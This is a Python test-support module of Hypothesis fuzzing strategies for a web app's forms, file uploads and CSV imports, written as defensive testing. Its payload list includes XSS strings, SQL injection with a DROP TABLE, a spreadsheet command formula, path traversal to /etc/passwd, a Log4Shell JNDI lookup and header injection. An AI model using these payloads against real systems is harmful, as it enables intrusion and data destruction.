"""Hypothesis settings and strategies for hostile input: what attackers and careless pastes send."""

from __future__ import annotations

import csv
import io

from hypothesis import HealthCheck, example, settings
from hypothesis import strategies as st

from tests.factories import make_docx

# Deterministic (the same examples every run: a validation record must be reproducible),
# no example database written into the checkout, and modest counts to keep CI fast.
FUZZ = settings(
    max_examples=25,
    deadline=None,
    derandomize=True,
    database=None,
    suppress_health_check=[
        HealthCheck.function_scoped_fixture,
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
    ],
)

PAYLOADS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' OR '1'='1' --",
    "'; DROP TABLE users; --",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2",
    "@SUM(A1:A9)",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%s%s%s%n",
    "{{ config }}",
    "{% raw %}",
    "${jndi:ldap://example.invalid/a}",
    "\r\nSet-Cookie: injected=1",
    "\u202eexe.txt",
    "\ufeff",
    "𝕏" * 30,
    "9" * 40,
    "-1",
    "0",
    "1e309",
    "NaN",
    "2026-02-30",
    "0000-00-00",
    "9999-12-31T23:59",
    "A" * 5000,
    " ",
    "",
]

# NUL gets its own test (see test_hostile_forms.test_nul_bytes): PostgreSQL refuses it in text.
NUL_PAYLOADS = ["\x00", "a\x00b@lab.test"]
_chars = st.characters(exclude_characters="\x00")
text = st.one_of(
    st.sampled_from(PAYLOADS), st.text(_chars, max_size=80), st.text(_chars, max_size=2000)
)


def sweep(targets: dict, **fixed):
    """Explicit examples on top of the random ones: each payload in every field at once.

    `targets` maps a test argument to the form fields it fills, or to None for a plain value.
    """

    def decorate(test):
        for payload in PAYLOADS:
            filled = {
                arg: payload if fields is None else dict.fromkeys(fields, payload)
                for arg, fields in targets.items()
            }
            test = example(**filled, **fixed)(test)
        return test

    return decorate


number_like = st.one_of(st.integers(-(2**70), 2**70).map(str), st.sampled_from(PAYLOADS))
date_like = st.one_of(
    st.dates().map(lambda d: d.isoformat()),
    st.datetimes().map(lambda d: d.strftime("%Y-%m-%dT%H:%M")),
    st.sampled_from(PAYLOADS),
)
value = st.one_of(text, number_like, date_like)
choices = st.lists(
    st.one_of(st.sampled_from(["admin", "quality_manager", "staff", "auditor"]), text), max_size=4
)


def form(**fields) -> st.SearchStrategy[dict]:
    """A form body in which any field may be missing, and a stray field may come along."""
    return st.fixed_dictionaries(
        {}, optional={**fields, "unexpected_field": text, "csrf_token": text}
    )


filename = st.one_of(
    st.sampled_from(
        [
            "procedure.docx",
            "PROCEDURE.DOCX",
            "../../etc/passwd.docx",
            "C:\\fakepath\\evil.docx",
            "macro.docm",
            "report.pdf",
            ".docx",
            "a" * 300 + ".docx",
            "no-extension",
        ]
    ),
    st.from_regex(r"[A-Za-z0-9 ._\-]{1,40}\.(docx|csv|xlsx|pdf)", fullmatch=True),
)

_docx = make_docx("Fuzzed", ("A paragraph.",))


def _mutate(data: bytes, edits: list[tuple[int, int]]) -> bytes:
    body = bytearray(data)
    for position, byte in edits:
        body[position % len(body)] = byte
    return bytes(body)


file_bytes = st.one_of(
    st.binary(max_size=4000),
    st.just(_docx),
    st.lists(st.tuples(st.integers(0, 10**6), st.integers(0, 255)), min_size=1, max_size=8).map(
        lambda edits: _mutate(_docx, edits)
    ),
    st.integers(0, len(_docx)).map(lambda n: _docx[:n]),
)


def csv_bytes(columns: list[str]) -> st.SearchStrategy[bytes]:
    """A spreadsheet with the right header (or a garbled one) and hostile rows."""
    header = st.one_of(
        st.just(columns),
        st.lists(st.sampled_from([*columns, "extra", ""]), max_size=len(columns) + 2),
    )
    rows = st.lists(st.lists(value, max_size=len(columns) + 2), max_size=6)

    def render(parts) -> bytes:
        head, body, encoding = parts
        out = io.StringIO()
        writer = csv.writer(out)
        writer.writerow(head)
        writer.writerows(body)
        return out.getvalue().encode(encoding, "replace")

    return st.one_of(
        st.tuples(header, rows, st.sampled_from(["utf-8", "utf-8-sig", "latin-1", "utf-16"])).map(
            render
        ),
        st.binary(max_size=2000),
    )
